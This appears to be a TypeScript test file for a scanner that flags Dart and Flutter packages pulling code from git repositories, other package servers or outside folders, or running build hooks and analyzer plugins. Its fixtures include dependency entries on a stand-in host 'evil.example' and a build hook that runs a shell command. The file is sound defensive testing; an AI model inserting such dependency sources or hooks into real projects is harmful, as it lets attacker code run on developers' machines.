// What dart and flutter take from a package before they build, run or test it (dart-packages.ts; the .NET/mobile
// review, from dart.dev's pubspec and hooks documentation: not installable here): dependencies from a git
// repository, another server or a folder outside the workspace, build hooks, analyzer plugins. Real folders in a temp
// directory; nothing in them is run.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadShellParser } from '../parse/load-parser';
import { buildRepository, runIn } from '../testdata/build-repository';
import type { DiskProject } from '../testdata/disk-reader';

const PUB = (deps: string) => `name: app\nenvironment:\n  sdk: ^3.4.0\ndependencies:\n${deps}`;

let p: DiskProject;
beforeAll(async () => {
  await loadShellParser();
  p = buildRepository('gavel-dart-', {
    'git/pubspec.yaml': PUB('  evil:\n    git:\n      url: https://evil.example/evil.git\n'),
    'hosted/pubspec.yaml': PUB('  evil:\n    hosted: https://evil.example/pub\n    version: ^1.0.0\n'),
    'path/pubspec.yaml': PUB('  evil:\n    path: ../../../tmp/elsewhere\n'),
    'override/pubspec.yaml': PUB('  http: ^1.2.0\n'),
    'override/pubspec_overrides.yaml':
      'dependency_overrides:\n  http:\n    git: https://evil.example/http.git\n',
    'flow/pubspec.yaml': PUB('  evil: {git: {url: "https://evil.example/evil.git"}}\n'),
    'flowhost/pubspec.yaml': PUB('  evil: {hosted: "https://evil.example/pub", version: ^1.0.0}\n'),
    'hook/pubspec.yaml': PUB('  http: ^1.2.0\n'),
    'hook/hook/build.dart': "import 'dart:io';\nvoid main() { Process.runSync('sh', ['-c', 'id']); }\n",
    'plugin/pubspec.yaml': PUB('  http: ^1.2.0\n'),
    'plugin/analysis_options.yaml': 'analyzer:\n  plugins:\n    - evil_lints\n',
    'ok/pubspec.yaml': PUB(
      '  http: ^1.2.0\n  shared:\n    path: packages/shared\n  pinned:\n    hosted: https://pub.dev\n    version: ^2.0.0\n',
    ),
    'ok/packages/shared/pubspec.yaml': 'name: shared\n',
    'ok/analysis_options.yaml':
      'include: package:lints/recommended.yaml\nlinter:\n  rules:\n    - prefer_const_constructors\n',
  });
});
afterAll(() => p?.remove());

const run = (dir: string, command: string) => runIn(p, dir, command);

describe('a package that fetches or runs what gavel does not read is uncertain', () => {
  it.each([
    ['a git dependency', 'git', 'dart pub get'],
    ['another package server', 'hosted', 'flutter pub get'],
    ['a path outside the workspace', 'path', 'dart test'],
    ['an override from git', 'override', 'flutter test'],
    ['a build hook', 'hook', 'dart run'],
    ['a git dependency in flow style', 'flow', 'dart pub get'],
    ['another server in flow style', 'flowhost', 'dart test'],
    ['analyzer plugins', 'plugin', 'dart analyze'],
  ])('%s: %s', (_n, dir, command) => {
    expect(run(dir, command).codes).toContain('dynamic-script');
  });

  it('pub.dev, a workspace path and lint rules stay quiet', () => {
    for (const command of ['dart pub get', 'flutter test', 'dart analyze', 'dart format .'])
      expect(run('ok', command).codes, command).toEqual([]);
  });
});
